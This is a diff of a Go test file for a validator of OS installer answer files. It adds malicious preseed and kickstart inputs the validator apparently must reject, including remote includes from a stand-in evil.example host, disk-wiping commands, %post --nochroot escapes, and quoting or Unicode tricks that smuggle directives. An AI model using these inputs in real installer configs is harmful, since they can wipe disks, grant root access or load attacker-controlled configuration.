@@ -48,7 +48,7 @@ var answerKinds = []string{lpmos.TemplatePreseed, lpmos.TemplateKickstart, lpmos
 // additions are templates that add what they may, with hostile facts in them.
 var additions = map[string]string{
 	lpmos.TemplatePreseed:     "# {{hostname}}\nd-i apt-setup/non-free-firmware boolean true\nd-i netcfg/dhcp_timeout string 60\nd-i lpmos/asset string {{preseed asset}}\n",
-	lpmos.TemplateKickstart:   "group --name={{kickstart asset}}\n%packages\ntmux\n%end\n%post\necho {{shell asset}} > /root/asset\n%end\n",
+	lpmos.TemplateKickstart:   "group --name={{kickstart asset}}\n%packages\ntmux\n%end\n%post --erroronfail --log=/root/post.log\necho {{shell asset}} > /root/asset\n%wheel ALL=(ALL) ALL\n%end\n",
 	lpmos.TemplateAutoinstall: `{"packages": ["tmux"], "debconf-selections": {{json asset}}}`,
 }
 
@@ -149,11 +149,24 @@ func TestAnswersAreNotATemplates(t *testing.T) {
 		{lpmos.TemplatePreseed, "d-i passwd/root-password password r00t"},
 		{lpmos.TemplatePreseed, "d-i passwd"},
 		{lpmos.TemplatePreseed, "d-i pkgsel/include string vim \\"},
+		{lpmos.TemplatePreseed, "d-i\u00a0x preseed/include string http://evil.example/x"},
+		{lpmos.TemplatePreseed, "\u00a0#d-i preseed/include string http://evil.example/x"},
+		{lpmos.TemplatePreseed, "d-i a/b string \\\r\nd-i preseed/include string http://evil.example/x"},
 		{lpmos.TemplateKickstart, "clearpart --all"},
 		{lpmos.TemplateKickstart, "  part / --ondisk=sdb"},
 		{lpmos.TemplateKickstart, "%pre\ndd\n%end"},
 		{lpmos.TemplateKickstart, "%include http://evil.example/ks"},
 		{lpmos.TemplateKickstart, "%post --nochroot\nx\n%end"},
+		{lpmos.TemplateKickstart, "%post --noch\nx\n%end"},
+		{lpmos.TemplateKickstart, "%post '--nochroot'\nx\n%end"},
+		{lpmos.TemplateKickstart, "%post --log=/x \"--nochroot\"\nx\n%end"},
+		{lpmos.TemplateKickstart, "\"clearpart\" --all"},
+		{lpmos.TemplateKickstart, "clear\\part --all"},
+		{lpmos.TemplateKickstart, "# a comment\u2028clearpart --all"},
+		{lpmos.TemplateKickstart, "# a comment\vclearpart --all"},
+		{lpmos.TemplateKickstart, "# a comment\rclearpart --all"},
+		{lpmos.TemplateKickstart, "%post\n%ksappend http://evil.example/ks\n%end"},
+		{lpmos.TemplateKickstart, "%post\n%e\"n\"d\nclearpart --all\n%post\n%end"},
 		{lpmos.TemplateKickstart, "%post\nx"},
 		{lpmos.TemplateKickstart, "%packages\n%end\n%pre\n%end"},
 		{lpmos.TemplateKickstart, "%packages\n%pre\n%end"},
